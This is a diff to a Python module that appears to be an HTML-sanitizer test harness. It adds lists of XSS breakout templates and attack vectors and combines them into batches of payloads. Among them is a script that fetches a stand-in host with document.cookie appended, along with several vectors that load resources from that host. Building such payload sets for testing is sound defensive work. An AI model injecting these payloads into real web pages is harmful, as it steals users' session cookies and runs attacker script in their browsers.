@@ -9,7 +9,7 @@ from __future__ import annotations
 from dataclasses import dataclass, field
 from html.parser import HTMLParser
 
-PAYLOADS = (
+HAND_MADE = (
     "<script>alert(1)</script>",
     "</script><script src=//x.example></script>",
     "<ScRiPt\n>alert(1)</sCrIpT >",
@@ -60,6 +60,51 @@ PAYLOADS = (
     "＜script＞alert(1)＜/script＞",
     "شكرا <b>bold</b> \u200f<i>x</i>",
 )
+
+BREAKOUTS = (
+    "{}",
+    '">{}',
+    "'>{}",
+    "-->{}<!--",
+    "</textarea>{}",
+    "</title></head>{}",
+    "</script>{}<script>",
+    "`>{}",
+    "]]>{}",
+    "\u2028{}",
+    "Zamfira {} said",
+    "</select></form>{}",
+    "<x y='{}'>",
+)
+"""Ways out of the place in which the words stand."""
+
+VECTORS = (
+    "<script>fetch('//x.example/'+document.cookie)</script>",
+    "<script src=//x.example/a.js></script>",
+    "<img src=//x.example/i.png onerror=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><use href=//x.example/u.svg#x></svg>",
+    "<video poster=//x.example/p.png><source onerror=alert(1)></video>",
+    "<audio src=//x.example/a.mp3 onloadstart=alert(1)>",
+    "<iframe src=//x.example></iframe>",
+    "<a href=javas&#99;ript:alert(1)>x</a>",
+    "<a ping=//x.example/ping href=/>x</a>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<div style=background:url(//x.example/b.png)>x</div>",
+    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
+    "<template><script>alert(1)</script></template>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<noscript><img src=x onerror=alert(1)></noscript>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<picture><source srcset=//x.example/s.png><img></picture>",
+    "<link rel=prefetch href=//x.example/>",
+    "<object><param name=src value=//x.example></object>",
+)
+"""What would run, or ask somebody outside."""
+
+PAYLOADS = (*HAND_MADE, *(way.format(vector) for way in BREAKOUTS for vector in VECTORS))
+BUNDLES = tuple(PAYLOADS[at : at + 15] for at in range(0, len(PAYLOADS), 15))
+"""All of them, so many as one report is asked to carry."""
 
 _ELEMENTS = """
 html head meta title link script body a header p nav ul li form input label select option button main footer h1 h2 h3
